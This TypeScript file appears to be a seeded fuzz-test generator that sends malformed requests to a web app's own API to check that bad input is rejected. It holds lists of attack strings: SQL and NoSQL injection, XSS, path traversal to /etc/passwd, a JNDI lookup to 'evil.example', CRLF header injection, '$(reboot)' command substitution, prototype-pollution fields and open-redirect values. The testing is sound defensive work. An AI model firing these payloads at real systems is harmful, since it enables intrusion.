// Malformed requests for the calls of contract/endpoints.ts (bad input, ADR 019), from a seeded
// generator, so a run is replayed with the same FUZZ_SEED. For one call and its good requests it yields
// each field of the wrong type, missing, too long or a megabyte long, numbers no field takes
// (negative, fractional, 1e309, 2^64), injection strings, extra fields (__proto__, constructor), JSON
// 10,000 levels deep, broken and truncated JSON, bytes that are not UTF-8, the wrong content type, and
// bad path parameters, query parameters, methods and tokens: the systematic cases first (every kind
// early), then random ones for as long as they are asked for. Bodies are bytes, so what is not UTF-8
// reaches the server as it was written.
import type { z } from "zod";
import type { Endpoint } from "../../contract/endpoints";
import { isStorableText } from "../../contract/zod";
import { siteOrigin } from "./accounts";
import {
  fieldPaths,
  jsonSchemaOf,
  pathWith,
  replacedAt,
  valueAt,
  type Json,
  type JsonSchema,
} from "./request-samples";

/** mulberry32: a small, fast PRNG of 32 bits of state; the same seed, the same numbers. */
export function mulberry32(seed: number): () => number {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

export class Random {
  private readonly next: () => number;

  constructor(readonly seed: number) {
    this.next = mulberry32(seed);
  }

  /** A whole number from 0 to below - 1. */
  int(below: number): number {
    return Math.floor(this.next() * below);
  }

  pick<T>(items: readonly T[]): T {
    return items[this.int(items.length)] as T;
  }

  shuffled<T>(items: readonly T[]): T[] {
    const copy = [...items];
    for (let index = copy.length - 1; index > 0; index--) {
      const other = this.int(index + 1);
      [copy[index], copy[other]] = [copy[other] as T, copy[index] as T];
    }
    return copy;
  }
}

/** A seed for one call's generator from the run's seed, so each call's cases do not depend on the others. */
export function seedFor(seed: number, name: string): number {
  let hash = seed >>> 0;
  for (let index = 0; index < name.length; index++)
    hash = Math.imul(hash ^ name.charCodeAt(index), 0x01000193);
  return hash >>> 0;
}

export type FuzzKind =
  | "wrong type"
  | "missing field"
  | "extra fields"
  | "too long"
  | "number"
  | "injection"
  | "deep JSON"
  | "broken JSON"
  | "not UTF-8"
  | "content type"
  | "multipart"
  | "raw body"
  | "form"
  | "path parameter"
  | "query"
  | "method"
  | "token";

/** Bytes as sent: fetch takes a body of an ArrayBuffer. */
type Bytes = Uint8Array<ArrayBuffer>;

export type FuzzRequest = {
  kind: FuzzKind;
  /** What was spoilt, short enough for a failure message. */
  what: string;
  method: string;
  path: string;
  headers: Record<string, string>;
  body?: Bytes;
  /**
   * reject: malformed for this call, so a 4xx in the error shape. survive: not malformed for it (a
   * search for "' OR 1=1 --", a DELETE of nothing, an unknown query parameter of a GET): anything but a
   * 5xx, in the error shape when a 4xx.
   */
  expect: "reject" | "survive";
};

/** How a call takes its body: JSON (a request schema), a multipart form, raw bytes, or none at all. */
export type BodyKind = "json" | "multipart" | "raw" | "none";

/** The calls whose body is not JSON: the image upload (multipart), BgMax files and webhooks (raw bytes). */
const bodyKinds: Record<string, BodyKind> = {
  "POST /api/kammare/images": "multipart",
  "POST /api/admin/invoices/bgmax": "raw",
  "POST /api/webhooks/{provider}": "raw",
};

/** The content types the raw calls take (server/api/invoicing/admin-bgmax.ts; a webhook takes anything signed). */
const rawTypes = ["application/octet-stream", "text/plain", "application/json"];

/** The calls that take a plain HTML form besides JSON (server/api/accounts/preferences.ts). */
const formCalls = new Set(["POST /api/preferences/locale", "POST /api/preferences/analytics-consent"]);

/**
 * A visitor's posts on a page (server/api/memories/visitors.ts) refuse a request without the site's
 * Origin before they read it: sent with it, as a browser sends it, so their input is what is tried.
 */
const originCalls = new Set([
  "POST /api/memories",
  "POST /api/memories/candles",
  "POST /api/memories/reports",
]);

export function bodyKind(endpoint: Endpoint): BodyKind {
  if (endpoint.request) return "json";
  return bodyKinds[`${endpoint.method.toUpperCase()} ${endpoint.path}`] ?? "none";
}

export type FuzzTarget = {
  endpoint: Endpoint;
  /** Good bodies: JSON for a call with a request schema, the form's text fields for the upload. */
  bodies: Json[];
  /** Good query parameters (for a call with a query schema). */
  query: Record<string, string>;
  /** A good value of each path parameter. */
  parameter: (name: string) => string;
  /** A token the call's guard lets through. */
  bearer: string;
  /** The methods the contract has at this call's path (upper case): a wrong method is none of them. */
  methods: string[];
};

export const injections = [
  "' OR 1=1 --",
  '"; drop table users; --',
  "1'; select pg_sleep(5); --",
  "<script>alert(1)</script>",
  '"><svg onload=alert(1)>',
  "../../etc/passwd",
  "..\\..\\..\\windows\\win.ini",
  "${jndi:ldap://evil.example/a}",
  "{{7*7}}#{7*7}",
  "%00",
  "a%0d%0aSet-Cookie: pwned=1",
  "a\r\nSet-Cookie: pwned=1\r\n\r\n",
  '{"$gt": ""}',
  "\u202egnp.exe",
  "$(reboot)`reboot`",
];

/** Numbers at the edges (negative, fractional, beyond a double, 2^64) as JSON text, which JSON.stringify cannot write. */
export const rawNumbers = [
  "-1",
  "-0",
  "0",
  "0.5",
  "-2.5",
  "1e309",
  "-1e309",
  "1e-400",
  "18446744073709551616",
  "9007199254740993",
  "-9007199254740993",
  "2147483648",
  `1${"0".repeat(400)}`,
];

/** The same as text, for query and path parameters (and string fields, where they are well typed). */
const numberText = [
  "-1",
  "-0",
  "1.5",
  "1e309",
  "NaN",
  "Infinity",
  "18446744073709551616",
  "9007199254740993",
  "0x10",
  " 1",
  "",
];

const wrongTypes: Record<string, Json[]> = {
  string: [12345, -1, true, null, [], ["x"], {}, { x: "y" }],
  number: ["1", "abc", "", true, null, [], [1], {}],
  boolean: ["true", 1, 0, null, [], {}],
  array: ["x", 1, true, null, {}, [[]], [null]],
  object: ["x", 1, true, null, [], [{}]],
  null: [0, "", false, []],
};

const typeOf = (value: Json | undefined): string =>
  value === null ? "null" : Array.isArray(value) ? "array" : typeof value;

/** Sequences that are not UTF-8: broken, overlong, a surrogate, beyond U+10FFFF, cut short. */
export const notUtf8: { name: string; bytes: number[] }[] = [
  { name: "C3 28", bytes: [0xc3, 0x28] },
  { name: "FF", bytes: [0xff] },
  { name: "FE FF", bytes: [0xfe, 0xff] },
  { name: "overlong C0 AF", bytes: [0xc0, 0xaf] },
  { name: "overlong E0 80 AF", bytes: [0xe0, 0x80, 0xaf] },
  { name: "overlong F0 80 80 AF", bytes: [0xf0, 0x80, 0x80, 0xaf] },
  { name: "surrogate ED A0 80", bytes: [0xed, 0xa0, 0x80] },
  { name: "F4 90 80 80 (above U+10FFFF)", bytes: [0xf4, 0x90, 0x80, 0x80] },
  { name: "lone continuation 80", bytes: [0x80] },
  { name: "cut short E2 82", bytes: [0xe2, 0x82] },
];

/** Content types a JSON call must refuse; undefined: none at all. */
export const wrongContentTypes = [
  undefined,
  "text/plain",
  "text/plain;charset=UTF-8",
  "application/x-www-form-urlencoded",
  "multipart/form-data; boundary=fuzz",
  "application/xml",
  "application/octet-stream",
  "application/json-patch+json",
  "application/jsonl",
  "json",
  "*/*",
];

/** Path parameters that name nothing: injections, numbers, huge, escapes that are not UTF-8 text. */
const pathValues = [
  ...injections.map((value) => encodeURIComponent(value)),
  "../../etc/passwd",
  "..%2F..%2Fetc%2Fpasswd",
  "%2e%2e",
  ...numberText.filter((value) => value !== "").map((value) => encodeURIComponent(value)),
  "x".repeat(8000),
  "%ZZ",
  "%C3%28",
  "%",
  "%0D%0A",
  "%E2%80%AE",
  encodeURIComponent("ÅÄÖ😀"),
  "",
];

/** Query values, written as sent (so also escapes that are not text). */
const queryValues = [
  ...injections.map((value) => encodeURIComponent(value)),
  ...numberText.map((value) => encodeURIComponent(value)),
  "x".repeat(2000),
  "%ZZ",
  "%C3%28",
  "%ED%A0%80",
  "%",
  "a+b",
];

/** Query parameter names besides the call's own. */
const extraQueryNames = [
  "anything",
  "__proto__",
  "constructor",
  "q[]",
  "limit[$gt]",
  encodeURIComponent("' OR 1=1 --"),
];

/** Bad Authorization headers (never a good token spelled another way, which would be let in). */
const badAuthorizations = (good: string) => [
  "Bearer ' OR 1=1 --",
  `Bearer ${"x".repeat(10_000)}`,
  "Bearer",
  "Bearer null",
  "Basic YWRtaW46YWRtaW4=",
  "Bearer ../../etc/passwd",
  `Bearer ${good}x`,
  `Bearer ${good.slice(0, -1)}`,
];

const megabyte = 1024 * 1024;
const encoder = new TextEncoder();
const utf8 = new TextDecoder("utf-8", { fatal: true });

const rawMarker = (index: number) => `@@fuzz-raw-${index}@@`;

/** A body's JSON text, each raw marker (rawMarker(i) as a string value) replaced by raws[i] as written. */
function jsonText(body: Json, raws: string[] = []): string {
  let text = JSON.stringify(body);
  raws.forEach((raw, index) => {
    text = text.replace(JSON.stringify(rawMarker(index)), () => raw);
  });
  return text;
}

/** Every schema a body's field may be checked by (each option of a union that has it). */
function schemasAt(schema: JsonSchema, path: string[]): JsonSchema[] {
  const options = [...(schema.oneOf ?? []), ...(schema.anyOf ?? [])];
  if (options.length > 0) return options.flatMap((option) => schemasAt(option, path));
  const [head, ...rest] = path;
  if (head === undefined) return [schema];
  if (schema.type === "object") {
    const property = schema.properties?.[head];
    return property ? schemasAt(property, rest) : [];
  }
  if (schema.type === "array" && schema.items) return schemasAt(schema.items, rest);
  return [];
}

/** The body text with a field added first (the body is always an object). */
const withField = (text: string, field: string) => `{${field}${text === "{}" ? "" : ","}${text.slice(1)}`;

/** A short account of a value for a failure message. */
function shown(value: Json): string {
  const text = JSON.stringify(value);
  return text.length > 60 ? `${text.slice(0, 40)}… (${text.length} characters)` : text;
}

/** Byte arrays one after another. */
function concat(...parts: Bytes[]): Bytes {
  const all = new Uint8Array(parts.reduce((length, part) => length + part.length, 0));
  let at = 0;
  for (const part of parts) {
    all.set(part, at);
    at += part.length;
  }
  return all;
}

/** The text as UTF-8 with the bytes in place of the first marker (after it all, if there is none). */
function withBytes(text: string, marker: string, bytes: number[]): Bytes {
  const at = text.includes(marker) ? text.indexOf(marker) : text.length;
  return concat(
    encoder.encode(text.slice(0, at)),
    new Uint8Array(bytes),
    encoder.encode(text.slice(at + marker.length)),
  );
}

/** The text of a deep nest: 10,000 levels of [ (closed) or {"a": (closed). */
const deepArray = (levels: number) => `${"[".repeat(levels)}${"]".repeat(levels)}`;
const deepObject = (levels: number) => `${'{"a":'.repeat(levels)}1${"}".repeat(levels)}`;

/** A multipart/form-data body of text fields and files, as a browser writes it. */
function multipartBody(
  boundary: string,
  parts: { name: string; value: string | Bytes; filename?: string; type?: string }[],
  closed = true,
): Bytes {
  const chunks: Bytes[] = [];
  for (const part of parts) {
    const file = part.filename === undefined ? "" : `; filename="${part.filename}"`;
    const type = part.type === undefined ? "" : `\r\nContent-Type: ${part.type}`;
    chunks.push(
      encoder.encode(
        `--${boundary}\r\nContent-Disposition: form-data; name="${part.name}"${file}${type}\r\n\r\n`,
      ),
    );
    chunks.push(typeof part.value === "string" ? encoder.encode(part.value) : part.value);
    chunks.push(encoder.encode("\r\n"));
  }
  if (closed) chunks.push(encoder.encode(`--${boundary}--\r\n`));
  return concat(...chunks);
}

/** A short account of a number's text for a failure message. */
const shortNumber = (text: string) =>
  text.length > 30 ? `${text.slice(0, 12)}… (${text.length} digits)` : text;

/** The headers and body of a request with this content type (undefined: none at all). */
const typed = (type: string | undefined, body: Bytes): RequestParts => ({
  headers: type === undefined ? {} : { "Content-Type": type },
  body,
});

/** Fields no schema has, added to a body: the prototype's names, roles, deep nesting, a huge key. */
const extraFields = [
  '"__proto__":{"isAdmin":true,"roles":["admin"]}',
  '"constructor":{"prototype":{"isAdmin":true}}',
  '"prototype":{"polluted":true}',
  '"roles":["admin"],"isAdmin":true,"userId":"00000000-0000-0000-0000-000000000000"',
  `"deep":${deepObject(1000)}`,
  `"${"k".repeat(10_000)}":1`,
];

/** One case: made when its turn comes (some are a megabyte), null when it is not malformed after all. */
type Case = { kind: FuzzKind; make: () => FuzzRequest | null };
type RequestParts = { path?: string; method?: string; headers?: Record<string, string>; body?: Bytes };

/** What the cases of one call are made with. */
type Maker = {
  target: FuzzTarget;
  method: string;
  goodPath: string;
  random: Random;
  /** A request of the call with its token; to its good path unless told otherwise. */
  request: (
    kind: FuzzKind,
    what: string,
    parts?: RequestParts,
    expect?: FuzzRequest["expect"],
  ) => FuzzRequest;
  /** A request with this JSON body, or null when the call's schema accepts it. */
  judged: (kind: FuzzKind, what: string, body: Bytes) => FuzzRequest | null;
  add: (kind: FuzzKind, make: Case["make"]) => void;
  /** A maker of random cases, drawn `weight` times as often as one of weight 1. */
  addRandom: (kind: FuzzKind, weight: number, make: Case["make"]) => void;
};

const contentTypeCase = ({ request }: Maker, type: string | undefined, body: Bytes) =>
  request("content type", `Content-Type ${type ?? "missing"}`, typed(type, body));

/** The cases of a good JSON body spoilt: its fields, its syntax, its bytes, its content type. */
function jsonCases(maker: Maker, body: Json): void {
  const { target, random, judged, add, addRandom } = maker;
  const schema = jsonSchemaOf(target.endpoint.request as z.ZodType);
  const text = jsonText(body);
  const fields = fieldPaths(body);
  const first = fields[0];
  if (!first) return;
  const ofType = (type: string) => fields.filter((path) => typeOf(valueAt(body, path)) === type);
  const strings = ofType("string");
  const numbers = ofType("number");
  const limits = (path: string[]) => schemasAt(schema, path);
  const some = (paths: string[][]) => random.pick(paths.length > 0 ? paths : fields);
  /** The body with one field changed; `raws`, the raw texts of the markers it holds. */
  const changed = (
    kind: FuzzKind,
    path: string[],
    what: string,
    value: (old: Json) => Json | undefined,
    raws: string[] = [],
  ) =>
    judged(kind, `${path.join(".")} ${what}`, encoder.encode(jsonText(replacedAt(body, path, value), raws)));
  const change = (...args: Parameters<typeof changed>) => add(args[0], () => changed(...args));

  for (const path of fields) {
    for (const wrong of wrongTypes[typeOf(valueAt(body, path))] ?? []) {
      change("wrong type", path, `= ${shown(wrong)}`, () => wrong);
    }
    change("missing field", path, "missing", () => undefined);
    for (const { maxItems } of limits(path)) {
      if (maxItems === undefined) continue;
      change("too long", path, `with ${maxItems + 1} items`, (old) =>
        Array.from({ length: maxItems + 1 }, () => (old as Json[])[0] ?? null),
      );
    }
  }
  for (const path of strings) {
    const lengths = limits(path).flatMap(({ maxLength }) => (maxLength === undefined ? [] : [maxLength + 1]));
    for (const length of new Set([...lengths, megabyte + 1])) {
      change("too long", path, `of ${length} characters`, () => "x".repeat(length));
    }
    for (const injection of injections) change("injection", path, `= ${shown(injection)}`, () => injection);
    for (const number of numberText) change("number", path, `= ${shown(number)}`, () => number);
  }
  for (const path of numbers) {
    const bounds = limits(path).flatMap(({ minimum, maximum }) => [
      ...(minimum === undefined ? [] : [String(minimum - 1)]),
      ...(maximum === undefined ? [] : [String(maximum + 1)]),
    ]);
    for (const number of new Set([...rawNumbers, ...bounds])) {
      change("number", path, `= ${shortNumber(number)}`, () => rawMarker(0), [number]);
    }
  }
  // The schemas drop keys they do not know (zod's default), so a body wrong only in those is a good
  // one: each comes with the first field of the wrong type, and must not trip the server first.
  const spoilt = jsonText(replacedAt(body, first, (old) => (typeof old === "number" ? "1" : 1)));
  for (const extra of extraFields) {
    const what = `${shown(extra)} and ${first.join(".")} of the wrong type`;
    add("extra fields", () => judged("extra fields", what, encoder.encode(withField(spoilt, extra))));
  }
  const deep = deepArray(10_000);
  const deepBodies: [string, string][] = [
    ["the body 10,000 levels of [", deep],
    ["10,000 levels of [, not closed", "[".repeat(10_000)],
    ['10,000 levels of {"a":', deepObject(10_000)],
  ];
  for (const [what, deepText] of deepBodies) {
    add("deep JSON", () => judged("deep JSON", what, encoder.encode(deepText)));
  }
  for (const path of fields.slice(0, 3))
    change("deep JSON", path, "10,000 levels of [", () => rawMarker(0), [deep]);
  const broken = [
    ...["", " \n\t", "null", "true", "0", '"text"', "[]", "[{}]"],
    ...[
      `${text}x`,
      `${text}}`,
      `${text}${text}`,
      `${text.slice(0, -1)},}`,
      `/* note */${text}`,
      `\u0000${text}`,
    ],
    ...['"n":NaN', '"u":undefined', '"h":0x10', '"s":"line\nbreak"'].map((field) => withField(text, field)),
    text.replaceAll('"', "'"),
    text.replace(/"(\w+)":/, "$1:"),
    text.slice(0, Math.ceil(text.length / 2)),
    text.slice(1),
    // The same key twice: JSON.parse keeps the last, a number.
    `${text.slice(0, -1)},${JSON.stringify(first[0])}:12345}`,
  ];
  for (const spoiltText of broken) {
    add("broken JSON", () =>
      judged("broken JSON", `the body ${shown(spoiltText)}`, encoder.encode(spoiltText)),
    );
  }
  const [firstString] = strings;
  const marker = "@@fuzz-bytes@@";
  const marked = firstString
    ? jsonText(replacedAt(body, firstString, (old) => `${old as string}${marker}`))
    : withField(text, `"x":"${marker}"`);
  for (const bad of notUtf8) {
    const what = `${bad.name} in ${firstString?.join(".") ?? "a string"}`;
    add("not UTF-8", () => judged("not UTF-8", what, withBytes(marked, marker, bad.bytes)));
  }
  const cut = concat(encoder.encode(text), new Uint8Array([0xc3]));
  add("not UTF-8", () => judged("not UTF-8", "the body ending inside a character", cut));
  add("not UTF-8", () => {
    const utf16 = new Uint8Array([
      0xff,
      0xfe,
      ...[...text].flatMap((char) => [char.charCodeAt(0) & 0xff, char.charCodeAt(0) >> 8]),
    ]);
    return judged("not UTF-8", "the body in UTF-16 with a byte order mark", utf16);
  });
  for (const type of wrongContentTypes)
    add("content type", () => contentTypeCase(maker, type, encoder.encode(text)));

  addRandom("wrong type", 3, () => {
    const path = random.pick(fields);
    const wrong = random.pick(wrongTypes[typeOf(valueAt(body, path))] ?? [null]);
    // Now and then a second field spoilt too (one neither holding the other): an injection.
    const second = random.pick(fields);
    const apart = path.some((key, index) => second[index] !== undefined && second[index] !== key);
    if (!apart || random.int(3) > 0) return changed("wrong type", path, `= ${shown(wrong)}`, () => wrong);
    const injection = random.pick(injections);
    const both = replacedAt(
      replacedAt(body, path, () => wrong),
      second,
      () => injection,
    );
    const what = `${path.join(".")} = ${shown(wrong)}, ${second.join(".")} = ${shown(injection)}`;
    return judged("wrong type", what, encoder.encode(jsonText(both)));
  });
  addRandom("injection", 3, () => {
    const injection = random.pick(injections) + (random.int(2) === 0 ? "" : random.pick(injections));
    return changed("injection", some(strings), `= ${shown(injection)}`, () => injection);
  });
  addRandom("number", 2, () => {
    const number = random.pick(rawNumbers);
    return changed("number", some(numbers), `= ${shortNumber(number)}`, () => rawMarker(0), [number]);
  });
  addRandom("missing field", 2, () =>
    changed("missing field", random.pick(fields), "missing", () => undefined),
  );
  addRandom("too long", 1, () => {
    const length = random.pick([100, 255, 256, 1000, 5000, 20_001, 100_000, megabyte + 1]);
    const char = random.pick(["x", "é", "😀", "\u202e"]);
    return changed("too long", some(strings), `of ${length} × ${shown(char)}`, () => char.repeat(length));
  });
  addRandom("broken JSON", 2, () => {
    const cut = 1 + random.int(Math.max(text.length - 1, 1));
    const what = `the body cut after ${cut} of ${text.length} characters`;
    return judged("broken JSON", what, encoder.encode(text.slice(0, cut)));
  });
  addRandom("not UTF-8", 2, () => {
    const bytes = encoder.encode(text);
    const at = random.int(bytes.length + 1);
    const bad = random.pick(notUtf8);
    const spoiltBytes = concat(bytes.slice(0, at), new Uint8Array(bad.bytes), bytes.slice(at));
    return judged("not UTF-8", `${bad.name} at byte ${at}`, spoiltBytes);
  });
  addRandom("deep JSON", 1, () => {
    const levels = random.pick([100, 1000, 10_000, 100_000]);
    const nest = random.int(2) === 0 ? deepArray(levels) : deepObject(levels);
    return changed("deep JSON", random.pick(fields), `${levels} levels deep`, () => rawMarker(0), [nest]);
  });
  addRandom("content type", 1, () =>
    contentTypeCase(maker, random.pick(wrongContentTypes), encoder.encode(text)),
  );
}

/** The image upload's cases: garbage images, bad fields, broken multipart bodies, other content types. */
function multipartCases(maker: Maker, fields: Record<string, string>): void {
  const { random, request, add, addRandom } = maker;
  const boundary = "----fuzz7MA4YWxkTrZu0gW";
  const multipartType = { "Content-Type": `multipart/form-data; boundary=${boundary}` };
  const textParts = (given: Record<string, string>) =>
    Object.entries(given).map(([name, value]) => ({ name, value }));
  const withImage = (image: Bytes, given = fields) =>
    multipartBody(boundary, [
      ...textParts(given),
      { name: "image", value: image, filename: "p.png", type: "image/png" },
    ]);
  // Never an image that reads: an upload that works would change the database.
  const garbageImages: [string, Bytes][] = [
    ["no bytes", new Uint8Array()],
    ["text", encoder.encode("not an image")],
    [
      "a PNG signature and garbage",
      new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 1, 2, 3, 4]),
    ],
    ["a JPEG start and garbage", new Uint8Array([0xff, 0xd8, 0xff, 0xe0, 0, 0x10, 0x4a, 0x46])],
    ["GIF89a and garbage", encoder.encode("GIF89a\u0001\u0000")],
  ];
  for (const [what, image] of garbageImages) {
    add("multipart", () =>
      request("multipart", `an image of ${what}`, { headers: multipartType, body: withImage(image) }),
    );
  }
  const image = new Uint8Array([0x89, 0x50, 0x4e, 0x47]);
  for (const field of Object.keys(fields)) {
    for (const value of [...injections, "x".repeat(10_000), "-1", ""]) {
      const body = () => withImage(image, { ...fields, [field]: value });
      add("multipart", () =>
        request("multipart", `${field} = ${shown(value)}`, { headers: multipartType, body: body() }),
      );
    }
    const rest = Object.fromEntries(Object.entries(fields).filter(([name]) => name !== field));
    add("multipart", () =>
      request("multipart", `${field} missing`, { headers: multipartType, body: withImage(image, rest) }),
    );
  }
  const textOnly = multipartBody(boundary, textParts(fields));
  const malformed: [string, Record<string, string>, Bytes][] = [
    ["no image", multipartType, textOnly],
    [
      "the image a text field",
      multipartType,
      multipartBody(boundary, [...textParts(fields), { name: "image", value: "AAAA" }]),
    ],
    ["no boundary parameter", { "Content-Type": "multipart/form-data" }, textOnly],
    ["another boundary", { "Content-Type": "multipart/form-data; boundary=other" }, textOnly],
    ["not closed", multipartType, multipartBody(boundary, textParts(fields), false)],
    ["cut in half", multipartType, textOnly.slice(0, Math.floor(textOnly.length / 2))],
    ["no body", multipartType, new Uint8Array()],
    [
      "a file name with ../ and CR LF",
      multipartType,
      multipartBody(boundary, [
        ...textParts(fields),
        { name: "image", value: image, filename: "../../etc/passwd\r\nX: y", type: "image/svg+xml" },
      ]),
    ],
    [
      "bytes that are not UTF-8 in a field",
      multipartType,
      withBytes(new TextDecoder().decode(textOnly), "\r\n\r\n", [0x0d, 0x0a, 0x0d, 0x0a, 0xc3, 0x28]),
    ],
  ];
  for (const [what, headers, body] of malformed)
    add("multipart", () => request("multipart", what, { headers, body }));
  for (const type of wrongContentTypes.filter((type) => !type?.startsWith("multipart/"))) {
    add("content type", () => contentTypeCase(maker, type, encoder.encode(JSON.stringify(fields))));
  }
  addRandom("multipart", 1, () => {
    const bytes = new Uint8Array(Array.from({ length: 1 + random.int(2000) }, () => random.int(256)));
    const whole = withImage(bytes);
    const cut = whole.slice(0, 1 + random.int(whole.length));
    const what = `${bytes.length} random bytes as the image, the body cut after ${cut.length} bytes`;
    return request("multipart", what, { headers: multipartType, body: cut });
  });
}

/** The cases of a call that takes raw bytes (a BgMax file, a webhook): garbage, huge, unsigned. */
function rawCases(maker: Maker): void {
  const { target, random, request, add, addRandom } = maker;
  const event = '{"id":"evt_1","type":"checkout.completed","created":1,"data":{}}';
  // Made when sent: one is 6 MB.
  const bodies: [string, () => Bytes][] = [
    ["no bytes", () => new Uint8Array()],
    ["JSON", () => encoder.encode(event)],
    [
      "a BgMax opening post and garbage",
      () => encoder.encode(`01BGMAX${" ".repeat(15)}0120230101120000\r\n70garbage\r\n`),
    ],
    ["bytes that are not UTF-8", () => new Uint8Array([0xc3, 0x28, 0xff, 0xfe, 0x80])],
    [`${6 * megabyte} bytes`, () => new Uint8Array(6 * megabyte).fill(0x30)],
    ["injections", () => encoder.encode(injections.join("\n"))],
    ["deep JSON", () => encoder.encode(deepArray(10_000))],
  ];
  for (const type of rawTypes) {
    for (const [what, body] of bodies)
      add("raw body", () => request("raw body", `${what} as ${type}`, typed(type, body())));
  }
  for (const type of wrongContentTypes.filter((type) => !rawTypes.includes(type ?? ""))) {
    add("content type", () => contentTypeCase(maker, type, encoder.encode("garbage")));
  }
  if (target.endpoint.path.startsWith("/api/webhooks/")) {
    const signatures = [
      "t=1,v1=abc",
      "t=-1,v1=",
      `t=1e309,v1=${"0".repeat(64)}`,
      "v1=",
      "",
      "t=,v1=,v1=",
      "x".repeat(10_000),
    ];
    for (const signature of signatures) {
      const headers = {
        "Content-Type": "application/json",
        "Sandbox-Signature": signature,
        "Stripe-Signature": signature,
      };
      add("raw body", () =>
        request("raw body", `a signature ${shown(signature)}`, { headers, body: encoder.encode(event) }),
      );
    }
  }
  addRandom("raw body", 1, () => {
    const body = new Uint8Array(Array.from({ length: random.int(4096) }, () => random.int(256)));
    return request("raw body", `${body.length} random bytes`, typed(random.pick(rawTypes), body));
  });
}

/**
 * The cases of the address and headers: path parameters, query parameters, methods the call does not
 * have, bad tokens, and for the calls that take a plain form, its return address. `goodBody` goes
 * with them where the call takes JSON, so that only the spoilt part can be refused.
 */
function addressCases(maker: Maker, goodBody: RequestParts): void {
  const { target, method, goodPath, random, request, add, addRandom } = maker;
  const { endpoint } = target;
  // With a method the call lacks, or a query no call can read: a body no call takes, as well.
  const brokenBody = typed("application/json", encoder.encode("{"));

  if (formCalls.has(`${method} ${endpoint.path}`)) {
    const fields = Object.entries((target.bodies[0] ?? {}) as Record<string, string>);
    const returns = [
      ...injections,
      "//evil.example",
      "/\\evil.example",
      "/%0d%0aSet-Cookie:x=1",
      `/${"x".repeat(10_000)}`,
      "/é😀",
    ];
    for (const value of returns) {
      const form = encoder.encode(new URLSearchParams([...fields, ["redirectTo", value]]).toString());
      // A good request: answered with a redirect (to the page, or home), or a 400 naming a field.
      const parts = typed("application/x-www-form-urlencoded", form);
      add("form", () => request("form", `redirectTo = ${shown(value)}`, parts, "survive"));
    }
  }

  const parameters = [...endpoint.path.matchAll(/\{(\w+)\}/g)].map((match) => match[1] as string);
  const parameterCase = (parameter: string, value: string) => {
    const path = pathWith(endpoint.path, (name) =>
      name === parameter ? value : encodeURIComponent(target.parameter(name)),
    );
    // Deleting what is not there is no error (DELETE is idempotent): such a call may answer 204. And a
    // path whose dot segments, once resolved (as every client and the server do), leave /api/ is a
    // page's address, answered by a page.
    const good = method === "DELETE" || !new URL(path, "http://localhost").pathname.startsWith("/api/");
    return request(
      "path parameter",
      `{${parameter}} = ${shown(value)}`,
      { ...goodBody, path },
      good ? "survive" : "reject",
    );
  };
  for (const parameter of parameters) {
    for (const value of pathValues) add("path parameter", () => parameterCase(parameter, value));
  }
  if (parameters.length > 0) {
    addRandom("path parameter", 2, () =>
      parameterCase(random.pick(parameters), random.pick(pathValues) + random.pick(["", ...pathValues])),
    );
  }

  const querySchema = endpoint.query;
  const names = Object.keys(querySchema?.shape ?? {});
  /** The query as the server reads it (the first of each name), decoded; null if it cannot be. */
  const readQuery = (pairs: [string, string][]): Record<string, string> | null => {
    try {
      const read: Record<string, string> = {};
      for (const [name, value] of pairs)
        read[decodeURIComponent(name)] ??= decodeURIComponent(value.replaceAll("+", " "));
      return Object.values(read).every(isStorableText) && Object.keys(read).every(isStorableText)
        ? read
        : null;
    } catch {
      return null;
    }
  };
  const queryCase = (pairs: [string, string][], what: string) => {
    const read = readQuery(pairs);
    // The list calls count an empty value as not given (listQueryInput in server/api/profiles/admin-profiles.ts).
    const given = read && Object.fromEntries(Object.entries(read).filter(([, value]) => value !== ""));
    const good =
      read !== null &&
      (!querySchema || querySchema.safeParse(read).success || querySchema.safeParse(given).success);
    // A good query of a call that changes something would change it: not sent.
    if (good && method !== "GET") return null;
    const path = `${goodPath}?${pairs.map(([name, value]) => `${name}=${value}`).join("&")}`;
    return request("query", what, { ...(good ? goodBody : brokenBody), path }, good ? "survive" : "reject");
  };
  const baseQuery = Object.entries(target.query).map(([name, value]): [string, string] => [
    name,
    encodeURIComponent(value),
  ]);
  const withParameter = (name: string, value: string) =>
    queryCase(
      [...baseQuery.filter(([other]) => other !== name), [name, value]],
      `?${decodeURIComponent(name)}=${shown(value)}`,
    );
  for (const name of names) {
    for (const value of queryValues) add("query", () => withParameter(name, value));
    add("query", () =>
      queryCase(
        baseQuery.filter(([other]) => other !== name),
        `?${name} missing`,
      ),
    );
  }
  for (const name of extraQueryNames) {
    for (const value of ["1", "%ZZ", encodeURIComponent("' OR 1=1 --")])
      add("query", () => withParameter(name, value));
  }
  addRandom("query", names.length > 0 ? 2 : 1, () =>
    withParameter(
      names.length > 0 && random.int(4) > 0 ? random.pick(names) : random.pick(extraQueryNames),
      random.pick(queryValues),
    ),
  );

  for (const other of ["GET", "POST", "PUT", "PATCH", "DELETE", "OPTIONS"]) {
    if (target.methods.includes(other)) continue;
    add("method", () => request("method", `${other} instead of ${method}`, { ...brokenBody, method: other }));
  }

  if (endpoint.auth) {
    for (const authorization of badAuthorizations(target.bearer)) {
      const headers = { ...goodBody.headers, Authorization: authorization };
      add("token", () => request("token", `Authorization ${shown(authorization)}`, { ...goodBody, headers }));
    }
    const headers = { ...goodBody.headers, Authorization: "", Cookie: "kammare_session=' OR 1=1 --" };
    add("token", () => request("token", "a made-up session cookie and no Origin", { ...goodBody, headers }));
  }
}

/**
 * The cases of one call: the systematic ones (each made when its turn comes), makers of random ones
 * (which draw from `random`), and a request every call refuses.
 */
function fuzzCases(target: FuzzTarget, random: Random) {
  const { endpoint } = target;
  const method = endpoint.method.toUpperCase();
  const goodPath = pathWith(endpoint.path, (name) => encodeURIComponent(target.parameter(name)));
  const systematic: Case[] = [];
  const randomCases: (Case & { weight: number })[] = [];
  const request: Maker["request"] = (kind, what, parts = {}, expect = "reject") => {
    const sent = parts.method ?? method;
    // A GET has no body (fetch refuses one).
    const bodyless = sent === "GET" || sent === "OPTIONS";
    const headers: Record<string, string> = {
      ...(originCalls.has(`${method} ${endpoint.path}`) ? { Origin: siteOrigin } : {}),
      Authorization: `Bearer ${target.bearer}`,
